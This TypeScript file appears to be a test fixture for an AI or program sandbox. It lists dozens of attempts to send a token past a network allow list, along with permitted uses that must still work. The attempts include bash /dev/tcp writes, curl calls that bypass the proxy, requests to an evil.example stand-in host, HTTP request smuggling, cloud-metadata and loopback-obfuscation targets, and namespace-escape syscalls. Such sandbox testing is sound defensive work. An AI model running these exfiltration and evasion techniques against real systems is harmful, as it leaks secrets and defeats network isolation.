/**
 * Attempts to reach what `network: { allow: [...] }` does not name. Each is an expression of `programs/network.py` that sends
 * its token `T` where it must not go. With an open network each gets there, through a proxy that checks nothing where it asks
 * one.
 */

export interface NetworkAttempt {
  readonly id: string;
  readonly attempt: string;
  /** What somebody outside gets if it works; `{T}` is the token. Default: the token. */
  readonly needle?: string;
  /** `said`: it works if the program says so, as nobody outside can tell. Default: somebody outside gets the needle. */
  readonly effect?: 'said';
  /** Why it does not work with an open network either. */
  readonly never?: string;
}

/** The list under which they are tried; `{SINK}` is the port of the host's own server, `{LISTED}` that of one that is named. */
export const ALLOWED_HOSTS: readonly string[] = [
  'packages.example.com',
  '*.example.org:443',
  'localhost:{LISTED}',
  // A name that leads to this machine, which no entry names by its address.
  '{HOST}:{SINK}',
];

type Rows = readonly (readonly [id: string, attempt: string, more?: Omit<NetworkAttempt, 'id' | 'attempt'>])[];

const SAID = { effect: 'said' } as const;
const NO_RIGHT = { ...SAID, never: 'commands of root have no right to it, and others never had' } as const;
const ALWAYS = { ...SAID, never: 'refused with every plan' } as const;
const BY_SETTING = { ...SAID, never: 'only where net.ipv4.ping_group_range allows it' } as const;

/** Without the proxy. */
const DIRECT: Rows = [
  ['tcp', 'tcp("127.0.0.1", T)'],
  ['tcp to another address of loopback', 'tcp("127.0.0.2", T)'],
  ['tcp to any address', 'tcp("0.0.0.0", T)'],
  ['tcp by IPv6', 'tcp("::1", T)'],
  ['tcp to any address by IPv6', 'tcp("::", T)'],
  ['tcp by a mapped address', 'tcp("::ffff:127.0.0.1", T)'],
  ['tcp to the address of the machine', 'tcp(ADDRESS, T)'],
  ['tcp to the mapped address of the machine', 'tcp("::ffff:" + ADDRESS, T)'],
  ['tcp to the name of the machine', 'tcp(HOST, T)'],
  ['tcp to localhost', 'tcp("localhost", T)'],
  ['tcp to a short address', 'tcp("127.1", T)'],
  ['tcp to an address in one number', 'tcp("2130706433", T)'],
  ['tcp to a hexadecimal address', 'tcp("0x7f000001", T)'],
  ['tcp to an octal address', 'tcp("0177.0.0.1", T)'],
  ['tcp with data in the first packet', 'socket.socket().sendto(encoded(T), socket.MSG_FASTOPEN, ("127.0.0.1", SINK))'],
  ['tcp from another port', 'said(socket.create_connection(("127.0.0.1", SINK), 20, ("127.0.0.1", 0)), T)'],
  ['udp', 'udp("127.0.0.1", T)'],
  ['udp with an address', 'udp("127.0.0.1", T, True)'],
  ['udp by IPv6', 'udp("::1", T)'],
  ['udp by a mapped address', 'udp("::ffff:127.0.0.1", T)'],
  ['udp to the address of the machine', 'udp(ADDRESS, T)'],
  ['udp to any address', 'udp("0.0.0.0", T)'],
  [
    'dns by udp',
    'udp("127.0.0.1", b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + vector(1, T.encode()) + b"\\0\\0\\1\\0\\1")',
  ],
  [
    'dns by tcp',
    'tcp("127.0.0.1", vector(2, b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + vector(1, T.encode()) + b"\\0\\0\\1\\0\\1"))',
  ],
  ['a stream without a path', 'abstract(socket.SOCK_STREAM, T)', { never: 'held with every plan' }],
  ['the paths of bash, tcp', 'sh("echo {T} > /dev/tcp/127.0.0.1/{SINK}")'],
  ['the paths of bash, udp', 'sh("echo {T} > /dev/udp/127.0.0.1/{SINK}")'],
  ['curl past the proxy', `sh("curl -sS -m 9 --noproxy '*' http://127.0.0.1:{SINK}/{T}")`],
  ['curl with NO_PROXY', `sh("NO_PROXY='*' no_proxy='*' curl -sS -m 9 http://127.0.0.1:{SINK}/{T}")`],
  [
    'curl without variables',
    'sh("env -u http_proxy -u HTTP_PROXY -u all_proxy -u ALL_PROXY curl -sS -m 9 http://127.0.0.1:{SINK}/{T}")',
  ],
  ['curl with the proxy of the machine', 'sh("curl -sS -m 9 -x http://127.0.0.1:{SINK} http://{T}.evil.example/")'],
  ['git with its own protocol', 'sh("git ls-remote git://127.0.0.1:{SINK}/{T}")'],
  ['git without a proxy', 'sh("git -c http.proxy= ls-remote http://127.0.0.1:{SINK}/{T}")'],
  ['git on localhost by http', `sh("NO_PROXY='*' git ls-remote http://localhost:{SINK}/{T}")`],
];

/** Sockets of other kinds, and ways around a namespace. */
const KINDS: Rows = [
  ['udp-lite', 'made(2, 2, 136)', SAID],
  ['mptcp', 'tcp_by(262)'],
  ['sctp', 'made(2, 1, 132)', SAID],
  ['vsock', 'made(40, 1)', SAID],
  ['tipc', 'made(30, 1)', SAID],
  ['audit of netlink', 'made(16, 3, 9)', SAID],
  ['events of devices', 'made(16, 3, 15)', SAID],
  ['diagnosis of sockets', 'made(16, 3, 4)', SAID],
  ['icmp', 'made(2, 2, 1)', BY_SETTING],
  ['icmp by IPv6', 'made(10, 2, 58)', BY_SETTING],
  ['raw icmp', 'made(2, 3, 1)', NO_RIGHT],
  ['raw packets', 'made(2, 3, 255)', NO_RIGHT],
  ['raw IPv6', 'made(10, 3, 58)', NO_RIGHT],
  ['frames', 'made(17, 3, 3)', NO_RIGHT],
  ['an io_uring', 'called(425, 4, ctypes.create_string_buffer(120))', SAID],
  ['another network namespace', 'called(308, os.open("/proc/self/ns/net", 0), 0x40000000)', NO_RIGHT],
  ['a new network namespace', 'called(272, 0x40000000)', NO_RIGHT],
  ['a descriptor of the parent', 'called(438, os.pidfd_open(os.getppid()), 0, 0)', ALWAYS],
  ['a socket that was inherited', 'inherited(T)', { ...SAID, never: 'nothing is inherited with any plan' }],
];

/** Targets of a tunnel. */
const TARGETS: Rows = [
  ['a name', 'tunnel(T + ".evil.example:443", "")'],
  ['another port', 'tunnel(GOOD + ":8443", T)'],
  ['the port of ssh', 'tunnel(GOOD + ":22", T)'],
  ['port 0', 'tunnel(GOOD + ":0", T)'],
  ['a port out of range', 'tunnel(GOOD + ":65979", T)'],
  ['the name above a wildcard', 'tunnel("example.org:443", T)'],
  ['another port of a wildcard', 'tunnel("a.example.org:80", T)'],
  ['a name that ends like a wildcard', 'tunnel("evilexample.org:443", T)'],
  ['a name that begins like one', 'tunnel(GOOD + ".evil.example:443", T)'],
  ['a name that contains a wildcard', 'tunnel("a.example.org.evil.example:443", T)'],
  ['loopback', 'tunnel(f"127.0.0.1:{SINK}", T)'],
  ['another address of loopback', 'tunnel(f"127.9.9.9:{SINK}", T)'],
  ['any address', 'tunnel(f"0.0.0.0:{SINK}", T)'],
  ['localhost', 'tunnel(f"localhost:{SINK}", T)'],
  ['localhost in other letters, with a dot', 'tunnel(f"LocalHost.:{SINK}", T)'],
  ['a name below localhost', 'tunnel(f"a.localhost:{SINK}", T)'],
  ['loopback by IPv6', 'tunnel(f"[::1]:{SINK}", T)'],
  ['any address by IPv6', 'tunnel(f"[::]:{SINK}", T)'],
  ['a mapped address', 'tunnel(f"[::ffff:127.0.0.1]:{SINK}", T)'],
  ['a mapped address in hexadecimal', 'tunnel(f"[::ffff:7f00:1]:{SINK}", T)'],
  ['a compatible address', 'tunnel(f"[::127.0.0.1]:{SINK}", T)'],
  ['an address of NAT64', 'tunnel(f"[64:ff9b::7f00:1]:{SINK}", T)'],
  ['an address of 6to4', 'tunnel(f"[2002:7f00:1::1]:{SINK}", T)'],
  ['an address with a zone', 'tunnel(f"[::1%lo]:{SINK}", T)'],
  ['the address of the machine', 'tunnel(f"{ADDRESS}:{SINK}", T)'],
  ['metadata', 'tunnel("169.254.169.254:80", T)'],
  ['metadata by IPv6', 'tunnel("[fd00:ec2::254]:80", T)'],
  ['a private address', 'tunnel("10.0.0.1:443", T)'],
  ['a name that leads to this machine', 'tunnel(f"{HOST}:{SINK}", T)'],
  ['an octal address', 'tunnel(f"0177.0.0.1:{SINK}", T)'],
  ['a hexadecimal address', 'tunnel(f"0x7f.0.0.1:{SINK}", T)'],
  ['an address in one number', 'tunnel(f"2130706433:{SINK}", T)'],
  ['a short address', 'tunnel(f"127.1:{SINK}", T)'],
  ['a user before the name', 'tunnel(f"{GOOD}@{T}.evil.example:443", "")'],
  ['a backslash before the name', 'tunnel(f"{GOOD}\\\\@{T}.evil.example:443", "")'],
  ['a number sign before the name', 'tunnel(f"{T}.evil.example#@{GOOD}:443", "")'],
  ['a NUL in the name', 'tunnel(f"{GOOD}%00.{T}.evil.example:443", "")'],
  ["the machine's own proxy", 'tunnel(f"127.0.0.1:{SINK}", f"CONNECT {T}.evil.example:443 HTTP/1.1\\r\\n\\r\\n")'],
];

/** Other words of SOCKS. */
const SOCKS: Rows = [
  ['a name', 'socks(3, encoded(T + ".evil.example"), 443, "")'],
  ['another port', 'socks(3, encoded(GOOD), 22, T)'],
  ['loopback', 'socks(1, packed("127.0.0.1"), SINK, T)'],
  ['loopback by IPv6', 'socks(4, packed("::1"), SINK, T)'],
  ['a mapped address', 'socks(4, packed("::ffff:127.0.0.1"), SINK, T)'],
  ['an address as a name', 'socks(3, b"127.0.0.1", SINK, T)'],
  ['an octal address as a name', 'socks(3, b"0177.0.0.1", SINK, T)'],
  ['listening', 'socks(3, encoded(T + ".evil.example"), 443, "", 2)'],
  ['packets', 'socks(3, encoded(T + ".evil.example"), 443, "", 3)'],
  ['version 4', 'ask(b"\\4\\1" + SINK.to_bytes(2, "big") + packed("127.0.0.1") + encoded(T) + b"\\0")'],
];

/** What is sent through a tunnel to an allowed name. */
const WITHIN: Rows = [
  ['TLS for another server', 'tunnel(GOOD + ":443", hello(T + ".evil.example"))'],
  ['TLS for a name below', 'tunnel(GOOD + ":443", hello(T + "." + GOOD))'],
  ['TLS for two servers', 'tunnel(GOOD + ":443", hello(GOOD, T + ".evil.example"))'],
  ['TLS without a name', 'tunnel(GOOD + ":443", hello() + encoded(T))'],
  ['TLS for another server at the port of HTTP', 'tunnel(GOOD + ":80", hello(T + ".evil.example"))'],
  ['HTTP at the port of TLS', 'tunnel(GOOD + ":443", f"GET / HTTP/1.1\\r\\nHost: {T}.evil.example\\r\\n\\r\\n")'],
  ['ssh at the port of TLS', 'tunnel(GOOD + ":443", f"SSH-2.0-{T}\\r\\n")'],
  ['anything at the port of HTTP', 'tunnel(GOOD + ":80", f"{T}\\r\\n\\r\\n")'],
  ['HTTP for another host', 'tunnel(GOOD + ":80", f"GET / HTTP/1.1\\r\\nHost: {T}.evil.example\\r\\n\\r\\n")'],
  [
    'HTTP with an address of another host',
    'tunnel(GOOD + ":80", f"GET http://{T}.evil.example/ HTTP/1.1\\r\\nHost: {GOOD}\\r\\n\\r\\n")',
  ],
  ['a tunnel within the tunnel', 'tunnel(GOOD + ":80", f"CONNECT {T}.evil.example:443 HTTP/1.1\\r\\n\\r\\n")'],
  [
    'a second request for another host',
    'tunnel(GOOD + ":80", f"GET / HTTP/1.1\\r\\nHost: {GOOD}\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: {T}.evil.example\\r\\n\\r\\n")',
  ],
  ['HTTP/2 without TLS', 'tunnel(GOOD + ":80", f"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n{T}")'],
];

const POST = 'f"POST http://{GOOD}/ HTTP/1.1\\r\\nHost: {GOOD}\\r\\n"';
const SMUGGLED = 'f"GET / HTTP/1.1\\r\\nHost: {T}.evil.example\\r\\n\\r\\n"';

/** Requests of plain HTTP to the proxy. */
const REQUESTS: Rows = [
  ['another host', 'ask(f"GET http://{T}.evil.example/ HTTP/1.1\\r\\nHost: {T}.evil.example\\r\\n\\r\\n")'],
  ['another host, without a version', 'ask(f"GET http://{T}.evil.example/\\r\\n\\r\\n")'],
  ['another Host', 'ask(f"GET http://{GOOD}/ HTTP/1.1\\r\\nHost: {T}.evil.example\\r\\n\\r\\n")'],
  ['two Hosts', 'ask(f"GET http://{GOOD}/ HTTP/1.1\\r\\nHost: {GOOD}\\r\\nHost: {T}.evil.example\\r\\n\\r\\n")'],
  [
    'a Host after a bare line feed',
    'ask(f"GET http://{GOOD}/ HTTP/1.1\\r\\nHost: {GOOD}\\r\\nX: a\\nHost: {T}.evil.example\\r\\n\\r\\n")',
  ],
  [
    'a header of two lines',
    'ask(f"GET http://{GOOD}/ HTTP/1.1\\r\\nHost: {GOOD}\\r\\nX: a\\r\\n Host: {T}.evil.example\\r\\n\\r\\n")',
  ],
  ['no target but a path', 'ask(f"GET / HTTP/1.1\\r\\nHost: {T}.evil.example\\r\\n\\r\\n")'],
  ['a target without a scheme', 'ask(f"GET //{T}.evil.example/ HTTP/1.1\\r\\nHost: {T}.evil.example\\r\\n\\r\\n")'],
  ['a target of https', 'ask(f"GET https://{T}.evil.example/ HTTP/1.1\\r\\nHost: {T}.evil.example\\r\\n\\r\\n")'],
  ['a target of ftp', 'ask(f"GET ftp://{T}.evil.example/ HTTP/1.1\\r\\nHost: {T}.evil.example\\r\\n\\r\\n")'],
  ['two targets', 'ask(f"GET http://{GOOD}/ http://{T}.evil.example/ HTTP/1.1\\r\\nHost: {GOOD}\\r\\n\\r\\n")'],
  [
    'two targets by a tab',
    'ask(f"GET http://{GOOD}\\thttp://{T}.evil.example/ HTTP/1.1\\r\\nHost: {GOOD}\\r\\n\\r\\n")',
  ],
  ['a target with a user', 'ask(f"GET http://{GOOD}@{T}.evil.example/ HTTP/1.1\\r\\nHost: {GOOD}\\r\\n\\r\\n")'],
  [
    'a target with a backslash',
    'ask(f"GET http://{T}.evil.example\\\\@{GOOD}/ HTTP/1.1\\r\\nHost: {GOOD}\\r\\n\\r\\n")',
  ],
  [
    'a target with a number sign',
    'ask(f"GET http://{T}.evil.example#@{GOOD}/ HTTP/1.1\\r\\nHost: {GOOD}\\r\\n\\r\\n")',
  ],
  [
    'a target with a port and a user',
    'ask(f"GET http://{GOOD}:80@{T}.evil.example/ HTTP/1.1\\r\\nHost: {GOOD}\\r\\n\\r\\n")',
  ],
  ['a second request', `ask(f"GET http://{GOOD}/ HTTP/1.1\\r\\nHost: {GOOD}\\r\\n\\r\\n" + ${SMUGGLED})`],
  [
    'a request after two lengths',
    `ask(${POST} + "Content-Length: 0\\r\\nContent-Length: 99\\r\\n\\r\\n" + ${SMUGGLED})`,
  ],
  [
    'a request after chunks and a length',
    `ask(${POST} + "Content-Length: 0\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + ${SMUGGLED})`,
  ],
  [
    'a request after chunks with a space',
    `ask(${POST} + "Transfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + ${SMUGGLED})`,
  ],
  ['a body of CONNECT', 'ask(f"CONNECT {GOOD}:443 HTTP/1.1\\r\\nContent-Length: 20\\r\\n\\r\\n{T}")'],
  ['CONNECT to a URL', 'ask(f"CONNECT http://{T}.evil.example/ HTTP/1.1\\r\\n\\r\\n")'],
  ['CONNECT in small letters', 'ask(f"connect {T}.evil.example:443 HTTP/1.1\\r\\n\\r\\n")'],
  ['CONNECT with another Host', 'ask(f"CONNECT {GOOD}:443 HTTP/1.1\\r\\nHost: {T}.evil.example:443\\r\\n\\r\\n")'],
];

/** Real clients. */
const CLIENTS: Rows = [
  [
    'a redirect',
    'sh("curl -sSL -m 9 -x http://127.0.0.1:{PROXY} http://{GOOD}/redirect/{T}")',
    { needle: 'redirected-{T}' },
  ],
  [
    'a chain of proxies',
    'sh("curl -sS -m 9 --preproxy socks5h://127.0.0.1:{PROXY} -x http://{T}.evil.example:3128 http://a.example/")',
  ],
  [
    'names by https',
    'sh("curl -sSk -m 9 -x http://127.0.0.1:{PROXY} --doh-url https://{T}.evil.example/ http://{GOOD}/ --noproxy {GOOD}")',
  ],
  [
    'another server by --connect-to',
    'sh("curl -sSk -m 9 -x http://127.0.0.1:{PROXY} --connect-to ::{GOOD}:443 https://{T}.evil.example/")',
  ],
];

const named = (kind: string, rows: Rows): NetworkAttempt[] =>
  rows.map(([id, attempt, more = {}]) => ({ id: `${kind}: ${id}`, attempt, ...more }));

export const NETWORK_ATTEMPTS: readonly NetworkAttempt[] = [
  ...named('direct', DIRECT),
  ...named('kind', KINDS),
  ...named('tunnel to', TARGETS),
  ...named('socks', SOCKS),
  ...named('within a tunnel', WITHIN),
  ...named('request', REQUESTS),
  ...named('curl', CLIENTS),
];

/** What has to work all the same. */
export const NETWORK_USES: readonly NetworkAttempt[] = [
  { id: 'use: TLS for the target', attempt: 'tunnel(GOOD + ":443", hello(GOOD) + encoded(T))' },
  {
    id: 'use: TLS for a name of a wildcard',
    attempt: 'tunnel("a.example.org:443", hello("a.example.org") + encoded(T))',
  },
  { id: 'use: HTTP', attempt: 'ask(f"GET http://{GOOD}/{T} HTTP/1.1\\r\\nHost: {GOOD}\\r\\n\\r\\n")' },
  { id: 'use: SOCKS', attempt: 'socks(3, encoded(GOOD), 443, hello(GOOD) + encoded(T))' },
  { id: 'use: an address that is an entry', attempt: 'tcp("127.0.0.1", T, LISTED)' },
  { id: 'use: the same by IPv6', attempt: 'tcp("::1", T, LISTED)' },
  { id: 'use: curl', attempt: 'sh("curl -sS -m 9 -x http://127.0.0.1:{PROXY} http://{GOOD}/{T}")' },
];
